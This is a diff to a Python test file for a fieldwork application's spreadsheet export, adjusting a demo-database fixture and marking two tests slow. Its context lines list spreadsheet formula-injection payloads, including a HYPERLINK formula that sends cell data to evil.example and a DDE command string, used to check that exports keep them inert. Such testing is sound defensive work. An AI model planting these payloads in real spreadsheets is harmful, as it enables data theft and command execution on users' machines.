@@ -15,7 +15,7 @@ from openpyxl import load_workbook
 
 from fieldwork.files.cells import safe, unquote
 from fieldwork import audit, db
-from fieldwork.services import demo, findings, importing, inspections
+from fieldwork.services import findings, importing, inspections
 from exports import exporting
 from fieldwork.services.permissions import INSPECTOR, Actor, PermissionDenied
 from fieldwork.services.store import CaseRecord, add_complete_assessments
@@ -30,10 +30,8 @@ NASTY = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
 @pytest.fixture(scope="module")
 def demo_db(tmp_path_factory):
     """The demonstration set (112 case_review + 270 pin_review), loaded once for the module."""
-    url = new_database_url(tmp_path_factory.mktemp("demo"), "demo")
+    url = new_database_url(tmp_path_factory.mktemp("demo"), "demo", demo=True)
     engine = db.get_engine(url)
-    with db.session_scope(engine) as s:
-        demo.load(s, actor="test")
     yield engine
     db.dispose_all()
     if url.startswith("postgresql"):
@@ -132,6 +130,7 @@ def nasty_db(engine):
     return _nasty(engine, nasty_inspector=True)
 
 
+@pytest.mark.slow
 def test_injection_stays_inert_in_the_workbook(nasty_db):
     wb = load_workbook(io.BytesIO(workbook_bytes(nasty_db, with_notes=True)))
     for sheet in ("responses", "responses_labels"):
@@ -255,6 +254,7 @@ def test_data_dictionary_describes_every_variable_with_codes_skip_logic_and_crit
     assert "meta:inspector" in rows and "note:VARIABLE" in rows
 
 
+@pytest.mark.slow
 def test_native_bar_charts_of_the_headline_findings(demo_db):
     data = workbook_bytes(demo_db)
     with zipfile.ZipFile(io.BytesIO(data)) as zf:
